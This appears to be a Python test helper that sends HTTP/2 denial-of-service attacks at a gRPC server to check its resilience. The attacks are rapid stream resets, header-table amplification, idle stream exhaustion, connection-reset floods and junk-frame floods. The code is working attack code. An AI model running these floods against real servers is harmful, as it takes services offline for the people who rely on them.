"""Attacks that each ended a server once: what a client can send without a token, as fast as Python can send it.

Each one is bounded in time, and returns what it did, so that a test can say that it attacked at all.
"""

import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import raw_http2 as h2

RESET = struct.pack("ii", 1, 0)
"""SO_LINGER: a close becomes a reset."""


def connect(address: str, source: str = "127.0.0.1") -> socket.socket:
    """Open a connection from one of this machine's own addresses."""
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))


def send(client: socket.socket, data: bytes) -> bool:
    """Send what the server takes; return whether the connection still stands."""
    try:
        client.sendall(data)
    except (ConnectionError, TimeoutError):
        return False
    return True


def remembered(name: str, value: str) -> bytes:
    """Return a header that the server's table remembers, so that one byte repeats it from now on."""
    return b"\x40" + h2.field(name, value)[1:]


class Call:
    """Headers of a call: long for the first one on a connection, a few bytes for all others."""

    def __init__(self, path: str = h2.INFER, **more: str) -> None:
        given = {"te": "trailers", "content-type": "application/grpc", ":authority": "x", ":path": path}
        fields = {**given, **more}
        self.first = b"\x83\x86" + b"".join([remembered(name, value) for name, value in fields.items()])
        names = list(fields)  # the last one that was remembered has index 62
        index = {name: 62 + len(names) - 1 - at for at, name in enumerate(names)}
        pseudo = [":authority", ":path"]
        regular = [name for name in fields if name not in pseudo]
        self.index = {name: bytes([0x80 | at]) for name, at in index.items()}
        self.again = b"\x83\x86" + b"".join([self.index[name] for name in pseudo + regular])

    @property
    def hello(self) -> bytes:
        """Return what opens a connection, and its first call."""
        ordered = h2.head() if not self.first else b"".join([b"\x83\x86", *self._ordered()])
        return h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, ordered)

    def _ordered(self) -> Iterator[bytes]:
        yield self.first[2:]


def rapid_resets(address: str, seconds: float, *, code: int = 0, ends: bool = False) -> int:
    """Open calls and take them back at once, over one connection after the other; return how many."""
    call, flags = Call(), h2.END_HEADERS | (h2.END_STREAM if ends else 0)
    until_s, streams = time.monotonic() + seconds, 0
    while time.monotonic() < until_s:
        with connect(address) as client:
            alive, at = send(client, call.hello), 3
            while alive and time.monotonic() < until_s:
                parts = []
                for stream in range(at, at + 4000, 2):
                    parts.append(h2.frame(h2.HEADERS, flags, stream, call.again))
                    parts.append(h2.frame(h2.RST_STREAM, 0, stream, code.to_bytes(4, "big")))
                alive, at = send(client, b"".join(parts)), at + 4000
                streams += 2000
    return streams


def reconnecting_resets(address: str, seconds: float, *, clients: int = 8) -> int:
    """Open connections, each with calls whose heads are large by repetition; reset all; return how many."""
    call = Call(authorization="Bearer " + "y" * 3900)
    large = call.again + 7 * call.index["authorization"]
    parts = [call.hello]
    for stream in range(3, 1003, 2):
        parts.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, large))
        parts.append(h2.frame(h2.RST_STREAM, 0, stream, b"\0\0\0\x08"))
    data = b"".join(parts)

    def attack(until_s: float) -> int:
        done = 0
        while time.monotonic() < until_s:
            try:
                with connect(address) as client:
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
                    send(client, data)
                    done += 1
            except OSError:
                continue
        return done

    return in_threads(attack, clients, seconds)


def calls_without_messages(address: str, seconds: float, *, clients: int = 3) -> int:
    """Hold as many calls open as the server lets a connection have, and send no messages."""
    call = Call()

    def attack(until_s: float) -> int:
        opened = 0
        while time.monotonic() < until_s:
            with connect(address) as client:
                alive, at = send(client, call.hello), 3
                while alive and time.monotonic() < until_s:
                    streams = range(at, at + 400, 2)
                    alive = send(
                        client,
                        b"".join([h2.frame(h2.HEADERS, h2.END_HEADERS, one, call.again) for one in streams]),
                    )
                    at, opened = at + 400, opened + 200
                    throw_away(client)
                    time.sleep(0.02)
        return opened

    return in_threads(attack, clients, seconds)


def connects(address: str, seconds: float, *, clients: int = 4, sends: bytes = b"") -> int:
    """Connect and reset, again and again; return how often."""

    def attack(until_s: float) -> int:
        done = 0
        while time.monotonic() < until_s:
            try:
                with connect(address) as client:
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
                    if sends:
                        client.sendall(sends)
                    done += 1
            except OSError:
                continue
        return done

    return in_threads(attack, clients, seconds)


def frames(address: str, seconds: float, data: bytes, before: bytes = b"") -> int:
    """Send frames that mean nothing, over one connection after the other; return how many connections ended."""
    ended, until_s = 0, time.monotonic() + seconds
    while time.monotonic() < until_s:
        with h2.connect(address) as client:
            alive = send(client, before) if before else True
            while alive and time.monotonic() < until_s:
                alive = send(client, data)
            ended += not alive
    return ended


def throw_away(client: socket.socket) -> None:
    """Read what has come."""
    client.setblocking(False)
    try:
        while client.recv(2**16):
            pass
    except OSError:
        pass
    client.settimeout(10)


def in_threads(attack: Callable[[float], int], clients: int, seconds: float) -> int:
    """Run an attack several times at once; return the sum of what it did."""
    until_s, done = time.monotonic() + seconds, list[int]()
    threads = [threading.Thread(target=lambda: done.append(attack(until_s))) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(done)


@contextmanager
def under(attack: Callable[[], object]) -> Iterator[None]:
    """Let an attack run beside the block."""
    thread = threading.Thread(target=attack)
    thread.start()
    try:
        yield
    finally:
        thread.join()
